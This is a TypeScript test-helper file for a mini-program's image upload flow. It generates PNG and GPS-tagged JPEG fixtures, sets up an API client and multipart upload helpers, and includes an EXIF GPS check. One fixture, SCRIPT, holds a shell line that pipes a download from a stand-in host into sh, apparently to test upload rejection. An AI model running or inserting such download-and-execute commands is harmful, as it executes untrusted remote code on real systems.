// Test images made with sharp, and the mini-program's upload sequence over real HTTP.
import sharp from 'sharp';

export async function pngImage(width = 16, height = 12): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#c86464' } })
    .png()
    .toBuffer();
}

/** A JPEG a phone would send: 40×20 pixels stored sideways (orientation 6) with a GPS position. */
export async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 20, channels: 3, background: '#64c864' } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'TestPhone', Model: 'GPS-Leaker' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '39/1 54/1 2700/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '116/1 23/1 1800/100',
      },
    })
    .jpeg()
    .toBuffer();
}

export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl -s http://example.invalid/x | sh\n');

/** A JSON object read without a named shape. */
export type JsonObject = Record<string, unknown>;

/** T is the JSON body the test expects back (as harness.call's), an object of unknown fields unless named. */
export type Api = <T = JsonObject>(
  method: string,
  path: string,
  body?: unknown,
) => Promise<{ status: number; json: T; text: string }>;

/** A JSON client of the API at `base` (…/api/v1) for one bearer token. */
export function apiClient(base: string, token: string): Api {
  return async <T = JsonObject>(method: string, path: string, body?: unknown) => {
    const headers: Record<string, string> = { authorization: `Bearer ${token}` };
    if (body !== undefined) headers['content-type'] = 'application/json';
    const r = await fetch(base + path, {
      method,
      headers,
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    const text = await r.text();
    let json: unknown = {};
    try {
      json = JSON.parse(text);
    } catch {}
    return { status: r.status, json: json as T, text };
  };
}

/** wx.uploadFile: a multipart POST of the ticket's fields, then the file under name "file". */
export async function postForm(
  url: string,
  fields: Record<string, string>,
  bytes: Uint8Array,
  contentType: string,
): Promise<{ status: number; text: string }> {
  const fd = new FormData();
  for (const [k, v] of Object.entries(fields)) fd.append(k, v);
  fd.append('file', new Blob([new Uint8Array(bytes)], { type: contentType }), 'photo');
  const r = await fetch(url, { method: 'POST', body: fd });
  return { status: r.status, text: await r.text() };
}

export type Ticket = {
  fileId: string;
  url: string;
  fields: Record<string, string>;
  put: { url: string; headers: Record<string, string> };
};

/** The whole sequence the mini-program runs; answers each step's outcome. */
export async function uploadImage(
  api: Api,
  bytes: Uint8Array,
  contentType = 'image/png',
  declared: JsonObject = {},
): Promise<{ fileId: string; upload: number; complete: { status: number; json: JsonObject } }> {
  const pre = await api<Ticket>('POST', '/uploads', {
    filename: 'photo',
    contentType,
    size: bytes.length,
    purpose: 'chat-image',
    ...declared,
  });
  if (pre.status !== 201) throw new Error(`presign: ${pre.status} ${pre.text}`);
  const t = pre.json;
  const up = await postForm(t.url, t.fields, bytes, contentType);
  const complete = await api('POST', `/uploads/${t.fileId}/complete`);
  return { fileId: t.fileId, upload: up.status, complete };
}

/** Whether an EXIF block (as sharp's metadata().exif gives it) has a GPS IFD with entries. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  const tiff = exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? exif.subarray(6) : exif;
  const le = tiff.subarray(0, 2).toString('latin1') === 'II';
  const u16 = (o: number) => (le ? tiff.readUInt16LE(o) : tiff.readUInt16BE(o));
  const u32 = (o: number) => (le ? tiff.readUInt32LE(o) : tiff.readUInt32BE(o));
  const ifd0 = u32(4);
  for (let i = 0; i < u16(ifd0); i++) {
    const entry = ifd0 + 2 + i * 12;
    if (u16(entry) === 0x8825) return u16(u32(entry + 8)) > 0;
  }
  return false;
}
